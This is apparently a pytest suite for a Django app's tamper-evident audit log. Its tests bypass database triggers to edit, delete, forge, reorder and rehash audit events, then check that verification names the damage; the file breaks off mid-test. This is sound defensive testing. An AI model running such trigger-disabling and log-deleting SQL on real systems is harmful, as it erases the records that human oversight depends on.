"""The audit log is append-only and tamper-evident.

Tamper probes bypass the database's triggers the way an attacker with
DDL rights would (disable on PostgreSQL, drop on SQLite; both roll back
with the test's transaction), then check audit_verify names the first bad
sequence number.
"""

from __future__ import annotations

import errno
import hashlib
import hmac
import importlib
import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import CommandError, call_command
from django.db import DatabaseError, connection, transaction
from django.test.utils import CaptureQueriesContext
from hypothesis import given
from hypothesis import settings as settings_hypothesis
from hypothesis import strategies as st

from governance import audit
from governance.audit import Actor
from governance.models import AuditEvent
from governance.services import access
from tests.conftest import MS, NOW

triggers = importlib.import_module("governance.migrations.0002_audit_append_only")
no_replace = importlib.import_module("governance.migrations.0023_audit_no_replace_sqlite")


@contextmanager
def triggers_bypassed() -> Iterator[None]:
    with connection.cursor() as cur:
        if connection.vendor == "postgresql":
            cur.execute("ALTER TABLE governance_auditevent DISABLE TRIGGER USER")
        else:
            for statement in [*triggers.SQLITE_DOWN, no_replace.SQLITE_DOWN]:
                cur.execute(statement)
    yield
    with connection.cursor() as cur:
        if connection.vendor == "postgresql":
            cur.execute("ALTER TABLE governance_auditevent ENABLE TRIGGER USER")
        else:
            for statement in [*triggers.SQLITE_UP, no_replace.SQLITE_UP]:
                cur.execute(statement)


def sql(statement: str, params: list | None = None) -> None:
    with connection.cursor() as cur:
        cur.execute(statement, params or [])


@pytest.fixture
def chain(make_agent, make_tool, make_grant) -> int:
    """A chain of events: setup events plus some decisions. Returns its length."""
    bot = make_agent("bot")
    repo = make_tool("repo")
    make_grant(bot, repo, ("read",), "repo:acme/*")
    for i in range(6):
        access.access_check(agent="bot", tool="repo", action="read", scope=f"repo:acme/{i}", at=NOW)
    count = AuditEvent.objects.count()
    assert count >= 8
    return count


def verify_output(capsys) -> tuple[int, str]:
    try:
        call_command("audit_verify")
        code = 0
    except SystemExit as exc:
        code = int(exc.code or 0)
    out = capsys.readouterr()
    return code, out.out + out.err


def test_an_untouched_chain_verifies(chain, capsys):
    call_command("audit_checkpoint")
    # The log's first checkpoint puts the series' start on record, and signs it.
    started = AuditEvent.objects.get(event_type="audit.checkpoints_started")
    assert started.seq == chain + 1
    assert f"seq {chain + 1}" in capsys.readouterr().out
    code, text = verify_output(capsys)
    assert code == 0
    assert text.strip() == f"ok: {chain + 1} events, head {started.hash}"


def test_the_database_refuses_update_and_delete(chain):
    for statement in (
        "UPDATE governance_auditevent SET scope = 'x' WHERE seq = 2",
        "DELETE FROM governance_auditevent WHERE seq = 2",
    ):
        with pytest.raises(DatabaseError, match="append-only"), transaction.atomic():
            sql(statement)
    assert AuditEvent.objects.get(seq=2).scope != "x"


def _stored_row(seq: int) -> dict:
    """An event's columns as the database stores them (SQLite: uid as 32 hex, the time
    as naive UTC text), ready to be written back with a raw INSERT."""
    row = AuditEvent.objects.filter(seq=seq).values()[0]
    if connection.vendor == "sqlite":
        row["uid"] = row["uid"].hex
        row["created_at"] = row["created_at"].replace(tzinfo=None).isoformat(" ")
    return row


def _insert(row: dict, verb: str = "INSERT", tail: str = "") -> None:
    sql(
        f"{verb} INTO governance_auditevent ({', '.join(row)}) "
        f"VALUES ({', '.join(['%s'] * len(row))}){tail}",
        list(row.values()),
    )


def test_the_database_refuses_an_insert_that_would_replace_an_event(chain):
    """SQLite's REPLACE deletes the row it collides with and fires no DELETE trigger:
    `INSERT OR REPLACE` rewrote an event and `REPLACE INTO` with another's uid deleted
    it, past the UPDATE and DELETE triggers. PostgreSQL's upsert is an UPDATE."""
    victim = _stored_row(3)
    rewritten = {**_stored_row(5), "scope": "repo:acme/innocent"}
    newest = AuditEvent.objects.order_by("-seq").first().seq
    deleting = {**_stored_row(newest), "seq": newest + 1, "uid": victim["uid"]}
    if connection.vendor == "sqlite":
        for row, verb in [(rewritten, "INSERT OR REPLACE"), (deleting, "REPLACE")]:
            with pytest.raises(DatabaseError, match=r"append-only \(REPLACE refused\)"):
                with transaction.atomic():
                    _insert(row, verb)
    with pytest.raises(DatabaseError), transaction.atomic():
        _insert(rewritten, tail=" ON CONFLICT (seq) DO UPDATE SET scope = 'x'")
    assert AuditEvent.objects.get(seq=5).scope != "repo:acme/innocent"
    assert AuditEvent.objects.filter(seq=3, uid=victim["uid"]).exists()
    assert AuditEvent.objects.count() == chain


@pytest.mark.parametrize(
    "column, spelling",
    [
        ("created_at", lambda stored: "{}+12:00".format(
            (datetime.fromisoformat(stored) + timedelta(hours=12)).isoformat(" "))),
        ("uid", str.upper),
        ("break_glass", lambda stored: 2 if stored else 3),
    ],
)  # fmt: skip
def test_a_value_respelled_on_sqlite_is_detected(chain, capsys, column, spelling):
    """SQLite keeps a typed column's text as written: the same instant at +12:00, the
    uid in capitals or break_glass 2 read back (and hash) the same, but SQL filters
    compare the spelling, so a respelled time dropped the event from the decision-log
    export while verify said ok. Verify holds the spelling to the application's."""
    if connection.vendor != "sqlite":
        pytest.skip("PostgreSQL stores these as typed values, one spelling each")
    with triggers_bypassed():
        row = _stored_row(4)
        sql("DELETE FROM governance_auditevent WHERE seq = 4")
        _insert({**row, column: spelling(row[column])})
    assert AuditEvent.objects.get(seq=4).hash == row["hash"]  # reads back the same
    code, text = verify_output(capsys)
    assert code == 1
    assert "FAILED at seq 4" in text and "not stored as the application writes it" in text


def test_the_database_refuses_truncate(chain, capsys):
    """Row triggers never see TRUNCATE (migration 0012: a statement trigger does);
    nor may `manage.py flush` empty the log as a side effect."""
    if connection.vendor != "postgresql":
        pytest.skip("SQLite has no TRUNCATE (DELETE without WHERE is refused above)")
    with pytest.raises(DatabaseError, match=r"append-only \(TRUNCATE refused\)"):
        with transaction.atomic():
            sql("TRUNCATE governance_auditevent")
    with pytest.raises(CommandError, match="couldn't be flushed"), transaction.atomic():
        call_command("flush", interactive=False, verbosity=0)
    assert AuditEvent.objects.count() == chain
    assert verify_output(capsys)[0] == 0


@pytest.mark.django_db
def test_each_event_writes_only_the_indexes_something_reads():
    """Migration 0010: one plain b-tree per filtered column; no LIKE (pattern_ops)
    index, which nothing queries and every append would have to write."""
    if connection.vendor == "postgresql":
        query = "SELECT indexname, indexdef FROM pg_indexes WHERE tablename = %s"
    else:
        query = "SELECT name, sql FROM sqlite_master WHERE type = 'index' AND tbl_name = %s"
    with connection.cursor() as cur:
        cur.execute(query, ["governance_auditevent"])
        definitions = {name: definition or "" for name, definition in cur.fetchall()}
    assert not [d for d in definitions.values() if "pattern_ops" in d]
    assert {"audit_agent_seq", "audit_event_type"} <= definitions.keys()
    # The tool's index (0025) is partial: a decision, most of what is written, skips it.
    assert "WHERE" in definitions["audit_tool_seq_not_decisions"].upper()
    explicit = {  # without the primary key's and the unique uid's own indexes
        name
        for name in definitions
        if not name.endswith(("_pkey", "_uid_key")) and not name.startswith("sqlite_autoindex_")
    }
    # (agent, seq), event_type, created_at, grant_id, and (tool, seq) for non-decisions
    assert len(explicit) == 5, sorted(definitions)


def test_the_application_refuses_update_and_delete(chain):
    event = AuditEvent.objects.get(seq=2)
    event.scope = "x"
    with pytest.raises(PermissionError):
        event.save()
    with pytest.raises(PermissionError):
        event.delete()
    with pytest.raises(DatabaseError), transaction.atomic():
        AuditEvent.objects.filter(seq=2).update(scope="x")
    with pytest.raises(DatabaseError), transaction.atomic():
        AuditEvent.objects.filter(seq=2).delete()


def _audit_table_guards() -> list[tuple[str, ...]]:
    """The audit table's triggers and indexes, as the database holds them."""
    if connection.vendor == "postgresql":
        query = (
            "SELECT 'trigger', tgname, pg_get_triggerdef(oid) FROM pg_trigger "
            "WHERE tgrelid = 'governance_auditevent'::regclass AND NOT tgisinternal "
            "UNION ALL SELECT 'index', indexname, indexdef FROM pg_indexes "
            "WHERE tablename = 'governance_auditevent'"
        )
    else:
        query = (
            "SELECT type, name, coalesce(sql, '') FROM sqlite_master "
            "WHERE tbl_name = 'governance_auditevent' AND type IN ('trigger', 'index')"
        )
    with connection.cursor() as cur:
        cur.execute(query)
        return sorted(cur.fetchall())


@pytest.mark.django_db(transaction=True)
def test_migration_0026_widens_the_action_column_of_a_log_that_holds_events(capsys, back_to_head):
    """Migration 0026 on a live log: the events written before it (a grant's actions
    cut to 10 characters among them) still verify, the database still refuses UPDATE,
    DELETE (and on SQLite REPLACE) with the same triggers and indexes as before, and a
    grant's whole action list fits. An AlterField would have rebuilt the table on
    SQLite and dropped the triggers with the old one."""
    from django.db.migrations.executor import MigrationExecutor

    before = ("governance", "0025_audit_agent_and_tool_indexes")
    widened = ("governance", "0026_audit_action_whole")
    every = "read,create,update,delete,execute"
    guards = _audit_table_guards()
    system = Actor.system("test")

    def append(action: str) -> int:
        with transaction.atomic():
            return audit.append(
                event_type="grant.revoked", actor=system, at=NOW, tool="db", action=action
            ).seq

    MigrationExecutor(connection).migrate([before])
    try:
        append("read")
        cut = append("read,dele…")  # as the 10-character column held a grant's list
        if connection.vendor == "postgresql":  # SQLite never held a varchar to its width
            import psycopg

            with pytest.raises(psycopg.DataError, match=r"too long .* varying\(10\)"):
                append(every)
        call_command("audit_checkpoint")  # verify holds the log to it after the migration
        capsys.readouterr()
        written = AuditEvent.objects.count()
    finally:
        MigrationExecutor(connection).migrate([widened])
    assert _audit_table_guards() == guards
    head = AuditEvent.objects.get(seq=written).hash
    code, text = verify_output(capsys)
    assert (code, text.strip()) == (0, f"ok: {written} events, head {head}")
    for statement in (
        "UPDATE governance_auditevent SET action = 'read,delete' WHERE seq = %s",
        "DELETE FROM governance_auditevent WHERE seq = %s",
    ):
        with pytest.raises(DatabaseError, match="append-only"), transaction.atomic():
            sql(statement, [cut])
    if connection.vendor == "sqlite":
        with pytest.raises(DatabaseError, match=r"append-only \(REPLACE refused\)"):
            with transaction.atomic():
                _insert(_stored_row(cut), "REPLACE")
    assert AuditEvent.objects.get(seq=cut).action == "read,dele…"
    whole = append(every)
    assert AuditEvent.objects.get(seq=whole).action == every
    assert verify_output(capsys)[0] == 0
    if connection.vendor == "postgresql":  # narrowing back would cut it: refused
        with pytest.raises(RuntimeError, match=f"the event at seq {whole} "):
            MigrationExecutor(connection).migrate([before])
        assert AuditEvent.objects.get(seq=whole).action == every


def test_append_outside_a_transaction_is_refused(db):
    # pytest-django wraps every test in atomic; pretend it does not.
    with pytest.raises(RuntimeError, match="inside transaction.atomic"):
        original = connection.in_atomic_block
        connection.in_atomic_block = False
        try:
            audit.append(event_type="x", actor=Actor.system("t"), at=NOW)
        finally:
            connection.in_atomic_block = original


def test_an_edited_event_is_detected(chain, capsys):
    with triggers_bypassed():
        sql("UPDATE governance_auditevent SET scope = 'repo:acme/innocent' WHERE seq = 5")
    code, text = verify_output(capsys)
    assert code == 1
    assert "FAILED at seq 5" in text and "edited" in text
    # The failure is itself recorded, after the damage, for the next reader.
    failed = AuditEvent.objects.order_by("-seq").first()
    assert failed.event_type == "audit.verify_failed" and '"bad_seq":5' in failed.data


def test_a_deleted_event_in_the_middle_is_detected(chain, capsys):
    with triggers_bypassed():
        sql("DELETE FROM governance_auditevent WHERE seq = 4")
    code, text = verify_output(capsys)
    assert code == 1
    assert "FAILED at seq 4" in text and "deleted" in text


def test_an_inserted_event_is_detected(chain, capsys):
    # Shift seq >= 4 up by one and forge an event at 4, chained to seq 3's
    # hash but signed with a guessed key.
    with triggers_bypassed():
        sql("UPDATE governance_auditevent SET seq = -seq WHERE seq >= 4")
        sql("UPDATE governance_auditevent SET seq = 1 - seq WHERE seq < 0")
        prev = AuditEvent.objects.get(seq=3).hash
        forged = AuditEvent.objects.filter(seq=5).values()[0]
        forged.update(seq=4, scope="repo:acme/forged", prev_hash=prev)
        forged["uid"] = "00000000000000000000000000000001"
        forged["hash"] = hmac.new(b"guess", json.dumps(forged, default=str).encode(), "sha256")
        forged["hash"] = forged["hash"].hexdigest()
        columns = ", ".join(forged)
        marks = ", ".join(["%s"] * len(forged))
        sql(
            f"INSERT INTO governance_auditevent ({columns}) VALUES ({marks})", list(forged.values())
        )
    code, text = verify_output(capsys)
    assert code == 1
    assert "FAILED at seq 4" in text


def test_two_swapped_events_are_detected(chain, capsys):
    with triggers_bypassed():
        sql("UPDATE governance_auditevent SET seq = -1 WHERE seq = 6")
        sql("UPDATE governance_auditevent SET seq = 6 WHERE seq = 7")
        sql("UPDATE governance_auditevent SET seq = 7 WHERE seq = -1")
    code, text = verify_output(capsys)
    assert code == 1
    assert "FAILED at seq 6" in text and "reordered" in text


def test_deleting_the_newest_events_is_caught_by_the_checkpoint(chain, capsys):
    call_command("audit_checkpoint")
    capsys.readouterr()
    with triggers_bypassed():
        sql("DELETE FROM governance_auditevent WHERE seq > %s", [chain - 3])
    code, text = verify_output(capsys)
    assert code == 1
    assert f"FAILED at seq {chain - 2}" in text
    assert "newest 4 event(s) were deleted" in text  # 3, and the series' start


def test_events_with_no_checkpoint_do_not_verify(chain, capsys, settings):
    """Without a checkpoint outside the database, the newest events could be deleted
    unseen: verify fails (and records it) rather than say ok."""
    settings.AUDIT_CHECKPOINT_MAX_AGE = timedelta(minutes=15)
    code, text = verify_output(capsys)
    assert code == 1
    assert f"FAILED at seq {chain}: no checkpoint outside the database" in text
    failed = AuditEvent.objects.filter(event_type="audit.verify_failed").get()
    assert "no checkpoint" in json.loads(failed.data)["problem"]
    call_command("audit_checkpoint")
    assert verify_output(capsys)[0] == 0


def test_a_stale_checkpoint_fails_verify_so_a_stopped_job_cannot_hide_a_deleted_tail(
    chain, settings
):
    """The checkpoint job stopped 20 minutes ago; since then events were written and the
    newest deleted. Held against the old checkpoint alone the rest looks whole; its age
    says the tail is unprotected."""
    settings.AUDIT_CHECKPOINT_MAX_AGE = timedelta(minutes=15)
    written = datetime.now(UTC)
    signed = audit.write_checkpoint(written)["seq"]
    assert audit.verify_chain(written + timedelta(minutes=14)).ok
    for i in range(3):
        access.access_check(
            agent="bot", tool="repo", action="read", scope=f"repo:acme/late-{i}", at=NOW
        )
    with triggers_bypassed():
        sql("DELETE FROM governance_auditevent WHERE seq > %s", [signed + 1])
    later = audit.verify_chain(written + timedelta(minutes=20))
    assert not later.ok and later.bad_seq == signed
    assert "is 20 min old" in later.problem and f"after seq {signed}" in later.problem
    settings.AUDIT_CHECKPOINT_MAX_AGE = timedelta(0)  # the check off: the tail goes unseen
    assert audit.verify_chain(written + timedelta(minutes=20)).ok


def test_a_gap_in_the_checkpoint_series_is_on_record_and_named_by_every_verify(
    chain, settings, capsys
):
    """The job stopped for 70 minutes; meanwhile events were written and the newest
    deleted, and then the job came back and signed the shortened head. Nothing can show
    what was deleted, but the window can no longer pass unnoticed: the checkpoint after
    it writes `audit.checkpoint_gap` (which it signs), and verify warns about it on
    every run, naming the seqs it left unprotected."""
    settings.AUDIT_CHECKPOINT_MAX_AGE = timedelta(minutes=15)
    written = datetime.now(UTC)
    first = audit.write_checkpoint(written)
    signed = first["seq"]
    for i in range(3):
        access.access_check(
            agent="bot", tool="repo", action="read", scope=f"repo:acme/late-{i}", at=NOW
        )
    with triggers_bypassed():
        sql("DELETE FROM governance_auditevent WHERE seq > %s", [signed + 1])
    # Nothing is on record about the stop yet: only a checkpoint can tell.
    assert not AuditEvent.objects.filter(event_type="audit.checkpoint_gap").exists()
    second = audit.write_checkpoint(written + timedelta(minutes=70))

    gap = AuditEvent.objects.get(event_type="audit.checkpoint_gap")
    assert gap.seq == second["seq"] == signed + 2  # signed by the checkpoint after it
    assert json.loads(gap.data) == {"after": first["file"], "after_seq": signed, "minutes": 70}
    verdict = audit.verify_chain(written + timedelta(minutes=71))
    assert verdict.ok and len(verdict.gaps) == 1
    assert (
        f"events after seq {signed} were not protected until seq {signed + 2}" in (verdict.gaps[0])
    )
    settings.AUDIT_CHECKPOINT_MAX_AGE = timedelta(0)  # the check off: nothing said
    assert audit.verify_chain(written + timedelta(minutes=71)).gaps == ()
    # A checkpoint within the age after that leaves no new gap.
    settings.AUDIT_CHECKPOINT_MAX_AGE = timedelta(minutes=15)
    audit.write_checkpoint(written + timedelta(minutes=75))
    assert AuditEvent.objects.filter(event_type="audit.checkpoint_gap").count() == 1


def test_a_gap_is_recorded_once_however_often_its_checkpoint_fails_to_be_written(
    chain, settings, monkeypatch
):
    """The gap goes on record before the checkpoint that signs it is written: with the
    disk full, every minute's attempt recorded the same gap again."""
    settings.AUDIT_CHECKPOINT_MAX_AGE = timedelta(minutes=15)
    written = datetime.now(UTC)
    first = audit.write_checkpoint(written)
    real_link = os.link

    def full(*args: object, **kwargs: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "link", full)
    for minute in (70, 71, 72):
        with pytest.raises(OSError):
            audit.write_checkpoint(written + timedelta(minutes=minute))
    monkeypatch.setattr(os, "link", real_link)
    second = audit.write_checkpoint(written + timedelta(minutes=73))
    (gap,) = AuditEvent.objects.filter(event_type="audit.checkpoint_gap")
    assert json.loads(gap.data) == {
        "after": first["file"],
        "after_seq": first["seq"],
        "minutes": 70,
    }
    assert second["seq"] == gap.seq and audit.verify_chain(written + timedelta(minutes=74)).ok
    # A later stop after the new checkpoint is a gap of its own.
    audit.write_checkpoint(written + timedelta(minutes=200))
    assert AuditEvent.objects.filter(event_type="audit.checkpoint_gap").count() == 2


def test_a_refused_checkpoint_records_no_gap(chain, settings):
    """Over a damaged log every checkpoint is refused (the job tries each minute): none
    of them is written, so none says there was a gap either."""
    settings.AUDIT_CHECKPOINT_MAX_AGE = timedelta(minutes=15)
    written = datetime.now(UTC)
    signed = audit.write_checkpoint(written)["seq"]
    with triggers_bypassed():
        sql("DELETE FROM governance_auditevent WHERE seq = %s", [signed])
    for minutes in (30, 31, 32):
        with pytest.raises(audit.ChainBroken):
            audit.write_checkpoint(written + timedelta(minutes=minutes))
    assert not AuditEvent.objects.filter(event_type="audit.checkpoint_gap").exists()


def test_audit_verify_prints_each_gap_as_a_warning_and_still_exits_0(chain, settings, capsys):
    settings.AUDIT_CHECKPOINT_MAX_AGE = timedelta(minutes=15)
    now = datetime.now(UTC)
    audit.write_checkpoint(now - timedelta(hours=2))
    audit.write_checkpoint(now)
    code, text = verify_output(capsys)
    assert code == 0 and text.startswith("ok: ")
    assert "warning: checkpoints checkpoint-000000001-" in text and "120 min apart" in text


def test_deleting_everything_is_caught_by_the_checkpoint(chain, capsys):
    call_command("audit_checkpoint")
    capsys.readouterr()
    with triggers_bypassed():
        sql("DELETE FROM governance_auditevent")
    code, text = verify_output(capsys)
    assert code == 1
    assert "FAILED at seq 1" in text


def test_rehashing_everything_without_the_key_is_detected(chain, capsys):
    """An attacker who rewrites an event and re-chains every hash after it,
    but does not hold AUDIT_HMAC_KEY, still fails at the first event."""
    rows = list(AuditEvent.objects.order_by("seq").values(*audit.FIELDS))
    prev = audit.GENESIS
    with triggers_bypassed():
        for row in rows:
            row["created_at"] = row["created_at"]
            body = {k: str(v) for k, v in row.items() if k != "hash"}
            body["prev_hash"] = prev
            new = hashlib.sha256(json.dumps(body, sort_keys=True).encode()).hexdigest()
            sql(
                "UPDATE governance_auditevent SET prev_hash = %s, hash = %s WHERE seq = %s",
                [prev, new, row["seq"]],
            )
            prev = new
    code, text = verify_output(capsys)
    assert code == 1
    assert "FAILED at seq 1" in text and "HMAC" in text


def test_rehashing_with_a_wrong_key_after_an_edit_is_detected(chain, capsys, settings):
    """Same attack with the real algorithm and a guessed key."""
    rows = list(AuditEvent.objects.order_by("seq").values(*audit.FIELDS))
    settings.AUDIT_HMAC_KEY = "attacker-guess"
    prev = audit.GENESIS
    with triggers_bypassed():
        for row in rows:
            if row["seq"] == 3:
                row["scope"] = "repo:acme/rewritten"
            row["prev_hash"] = prev
            new = audit.event_hash(prev, row)
            sql(
                "UPDATE governance_auditevent SET scope = %s, prev_hash = %s, hash = %s "
                "WHERE seq = %s",
                [row["scope"], prev, new, row["seq"]],
            )
            prev = new
    settings.AUDIT_HMAC_KEY = "dev-only-insecure-audit-key-change-me"
    code, text = verify_output(capsys)
    assert code == 1
    assert "FAILED at seq 1" in text


def test_a_checkpoint_is_written_even_with_no_new_events(chain, capsys):
    call_command("audit_checkpoint")
    call_command("audit_checkpoint")
    first, second = audit.load_checkpoints()
    assert first["seq"] == second["seq"] == chain + 1  # the events and the series' start
    assert second["prev_signature"] == first["signature"]
    assert verify_output(capsys)[0] == 0


@pytest.mark.django_db(transaction=True)
def test_checkpoints_written_at_once_stay_one_chain(make_agent, capsys, monkeypatch):
    """The command during the minutely job, or a worker running a backlog: writers at
    the same moment are taken one at a time, so the series never forks (a fork would
    fail every later verify)."""
    if connection.vendor != "postgresql":
        pytest.skip("threads need connections of their own (PostgreSQL)")
    import threading
    import time

    from django.db import connections

    make_agent("bot")  # something in the log
    read_series = audit.load_checkpoints

    def slow_read() -> list:
        found = read_series()
        time.sleep(0.05)  # widen the window between reading the series and writing
        return found

    monkeypatch.setattr(audit, "load_checkpoints", slow_read)
    at = datetime.now(UTC)
    start, errors = threading.Barrier(6), []

    def write() -> None:
        try:
            start.wait()
            audit.write_checkpoint(at)
        except Exception as exc:  # noqa: BLE001 - reported below
            errors.append(exc)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=write) for _ in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert errors == []
    series = audit.load_checkpoints()
    assert len(series) == 6
    assert [c["prev_signature"] for c in series[1:]] == [c["signature"] for c in series[:-1]]
    assert verify_output(capsys)[0] == 0


def test_a_forged_checkpoint_is_detected(chain, capsys, settings):
    call_command("audit_checkpoint")
    path = next(settings.AUDIT_CHECKPOINT_DIR.glob("checkpoint-*.json"))
    body = json.loads(path.read_text())
    body["seq"] = 2  # pretend the log was shorter when checkpointed
    path.write_text(json.dumps(body))
    code, text = verify_output(capsys)
    assert code == 1
    assert "bad signature" in text


@pytest.mark.parametrize("seq", [0, -1])
def test_an_event_outside_the_chain_is_found(chain, capsys, seq):
    """A plain INSERT (no trigger to bypass, no key) at seq 0 or below is never walked,
    yet exports and reports would show it as real: verify names it."""
    call_command("audit_checkpoint")
    head = audit.verify_chain(NOW)
    sql(
        "INSERT INTO governance_auditevent (seq, uid, created_at, event_type, actor_type, actor,"
        " agent, task, tool, action, scope, arguments, arguments_hash, decision, reason,"
        " grant_id, approval_id, break_glass, data, prev_hash, hash) VALUES (%s, %s, %s,"
        " 'access.allowed', 'agent', 'agent:bot', 'bot', '', 'repo', 'delete', 'repo:acme/p',"
        " '{}', '', 'allow', 'allowed', NULL, '', %s, '{}', 'x', 'y')",
        [seq, "0" * 32, NOW, False],
    )
    code, text = verify_output(capsys)
    assert code == 1
    assert f"FAILED at seq {seq}: an event at seq {seq} is outside the chain" in text
    assert (
        json.loads(AuditEvent.objects.get(event_type="audit.verify_failed").data)["bad_seq"] == seq
    )
    since = audit.verify_since(head.count, head.head)  # the page's quick check, too
    assert since is not None and not since.ok and since.bad_seq == seq


def _delete_tail_and_write_again(head: int, keep: int) -> None:
    """Delete the events after seq `keep` and let ordinary traffic write past `head`."""
    with triggers_bypassed():
        sql("DELETE FROM governance_auditevent WHERE seq > %s", [keep])
    for i in range(head - keep + 2):
        access.access_check(
            agent="bot", tool="repo", action="read", scope=f"repo:acme/again-{i}", at=NOW
        )


def test_a_checkpointed_tail_deleted_and_written_again_is_caught(chain, capsys):
    """The newest events, already signed by a checkpoint, deleted and the log refilled
    past that seq before the next checkpoint: held against the newest checkpoint alone
    it looked whole; every checkpoint is held against the log, and the next checkpoint
    is refused rather than signed over the forged head."""
    first = audit.write_checkpoint(NOW)
    signed = first["seq"]
    assert signed == chain + 1  # the events and the series' start
    _delete_tail_and_write_again(signed, keep=chain - 3)
    assert AuditEvent.objects.filter(seq__gt=signed).exists()
    with pytest.raises(audit.ChainBroken) as refused:
        audit.write_checkpoint(NOW + timedelta(minutes=1))
    assert refused.value.problem[0] == signed
    assert len(audit.load_checkpoints()) == 1  # nothing signed
    with pytest.raises(CommandError, match=f"refused: not signed over a damaged log: seq {signed}"):
        call_command("audit_checkpoint")
    code, text = verify_output(capsys)
    assert code == 1
    assert f"FAILED at seq {signed}: event hash differs from checkpoint {first['file']}" in text


def test_an_older_checkpoint_is_held_against_the_log_too(chain, capsys, settings):
    """Two checkpoints, the events under the first deleted and written again past the
    second: the newest checkpoint still matches the log, the first one does not."""
    first = audit.write_checkpoint(NOW)
    access.access_check(agent="bot", tool="repo", action="read", scope="repo:acme/n", at=NOW)
    second = audit.write_checkpoint(NOW + timedelta(minutes=1))
    _delete_tail_and_write_again(second["seq"], keep=chain - 2)
    verdict = audit.verify_chain(NOW + timedelta(minutes=2))
    assert not verdict.ok and verdict.bad_seq == first["seq"]
    assert f"differs from checkpoint {first['file']}" in verdict.problem


def test_the_pages_quick_check_holds_every_new_checkpoint_against_the_log(chain, monkeypatch):
    """verify_since (the status page between full walks) walks only the new events: a
    refilled tail links up fine. A checkpoint signed over it by a writer that did not
    hold the previous one against the log (any writer before this check existed) matches
    the forged head; the one before it does not, and the quick check says so."""
    walked = audit.verify_chain(NOW)
    first = audit.write_checkpoint(NOW)
    _delete_tail_and_write_again(first["seq"], keep=chain - 1)
    with monkeypatch.context() as old_writer:
        old_writer.setattr(audit, "_against_checkpoints", lambda *args: None, raising=False)
        audit.write_checkpoint(NOW + timedelta(minutes=1))
    since = audit.verify_since(walked.count - 2, _hash_at(walked.count - 2))
    assert since is not None and not since.ok
    assert since.bad_seq == first["seq"] and first["file"] in since.problem


def test_the_quick_check_finds_the_newest_events_deleted_after_its_mark(chain, monkeypatch):
    """The page's quick check (verify_since) walks only the events after the head it last
    verified. Events written after that mark, signed by a checkpoint, then deleted (the
    newest ones, the mark itself kept): the walk from the mark finds nothing wrong with
    what is left, and only the checkpoint shows the log is short. The quick check says
    so, and so does the page, without a walk from genesis."""
    from governance.web import queries

    audit.write_checkpoint(NOW)
    mark = audit.verify_chain(NOW)  # the head the page last verified
    assert mark.ok
    for i in range(4):
        access.access_check(
            agent="bot", tool="repo", action="read", scope=f"repo:acme/n{i}", at=NOW
        )
    signed = audit.write_checkpoint(NOW + timedelta(minutes=1))
    assert signed["seq"] == mark.count + 4
    assert audit.verify_since(mark.count, mark.head) == audit.Verdict(
        True, signed["seq"], signed["head"]
    )
    with triggers_bypassed():
        sql("DELETE FROM governance_auditevent WHERE seq > %s", [mark.count + 1])

    since = audit.verify_since(mark.count, mark.head)
    assert since is not None and not since.ok
    assert (since.count, since.bad_seq) == (mark.count + 1, mark.count + 2)
    assert since.problem == (
        f"checkpoint {signed['file']} covers seq {signed['seq']} but the log ends at seq "
        f"{mark.count + 1}: the newest 3 event(s) were deleted"
    )
    # The page checks from the newest checkpoint, which says the log is short.
    status = queries.chain_status(datetime.now(UTC))
    assert (status["ok"], status["bad_seq"]) == (False, mark.count + 2)
    assert "were deleted" in status["problem"]
    # A question, not a record: the quick check writes nothing (the full verify does).
    assert not AuditEvent.objects.filter(event_type="audit.verify_failed").exists()
    assert AuditEvent.objects.order_by("-seq").first().seq == mark.count + 1


def test_the_quick_check_whose_mark_was_deleted_fails_on_the_checkpoint_not_a_full_walk(
    chain, monkeypatch
):
    """Deleted back past the quick check's mark (the newest checkpoint's head): it
    cannot link onto a head that is gone, so it says nothing (None); the page then
    holds the checkpoint against the log, which is short, without a walk from genesis
    (it used to hand over to one)."""
    from governance.web import queries

    audit.write_checkpoint(NOW)
    mark = audit.verify_chain(NOW)
    with triggers_bypassed():
        sql("DELETE FROM governance_auditevent WHERE seq > %s", [mark.count - 2])
    assert audit.verify_since(mark.count, mark.head) is None
    monkeypatch.setattr(audit, "verify_chain", None)  # a page that called it would crash
    status = queries.chain_status(datetime.now(UTC))
    assert (status["ok"], status["bad_seq"]) == (False, mark.count - 1)
    assert "the newest 2 event(s) were deleted" in status["problem"]


def _hash_at(seq: int) -> str:
    return AuditEvent.objects.get(seq=seq).hash


def test_the_checkpoint_job_refuses_and_records_the_damage(chain):
    from governance import tasks

    signed = audit.write_checkpoint(NOW)["seq"]
    _delete_tail_and_write_again(signed, keep=chain - 3)
    result = tasks.audit_checkpoint.run()
    assert result["refused"] and result["bad_seq"] == signed
    failed = AuditEvent.objects.get(event_type="audit.verify_failed")
    assert json.loads(failed.data)["bad_seq"] == signed
    assert len(audit.load_checkpoints()) == 1


def test_a_refused_checkpoint_job_records_and_alerts_once_an_hour_not_every_minute(
    chain, person, settings, monkeypatch
):
    """A checkpoint ahead of the log (the newest events gone) refuses every minute's
    checkpoint; each refusal used to append audit.verify_failed and mail every admin."""
    from django.utils import timezone

    from governance import tasks

    person("heidi", "admins")
    audit.write_checkpoint(NOW)
    _delete_tail_and_write_again(chain, keep=chain - 3)
    clock = [datetime.now(UTC)]
    monkeypatch.setattr(timezone, "now", lambda: clock[0])
    for _minute in range(3):
        assert tasks.audit_checkpoint.run()["refused"]
        clock[0] += timedelta(minutes=1)
    failed = AuditEvent.objects.filter(event_type="audit.verify_failed")
    assert failed.count() == 1
    clock[0] += timedelta(hours=1)
    assert tasks.audit_checkpoint.run()["refused"]
    assert failed.count() == 2  # still broken an hour later: said again
    assert len(audit.load_checkpoints()) == 1


def test_audit_checkpoint_says_what_is_wrong_in_a_line_not_a_traceback(chain, settings, tmp_path):
    """A checkpoint directory that cannot be made was a NotADirectoryError traceback;
    --reason or --as without --start-new-series wrote a plain checkpoint, silently."""
    before = len(audit.load_checkpoints())
    for args in (["--reason", "restored"], ["--as", "heidi"]):
        with pytest.raises(CommandError, match="--start-new-series only"):
            call_command("audit_checkpoint", *args)
    assert len(audit.load_checkpoints()) == before
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    settings.AUDIT_CHECKPOINT_DIR = blocker / "checkpoints"
    with pytest.raises(CommandError, match="the checkpoint cannot be written"):
